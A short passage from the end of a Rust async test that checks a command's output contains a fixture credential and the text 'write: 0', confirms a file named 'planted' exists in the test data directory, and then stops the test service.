    let [(_, credential), ..] = t.secrets();
    assert!(out.contains(&credential), "{out}");
    assert!(out.contains("write: 0"), "{out}");
    assert!(t.data().join("planted").exists());
    t.d.stop().await;
}
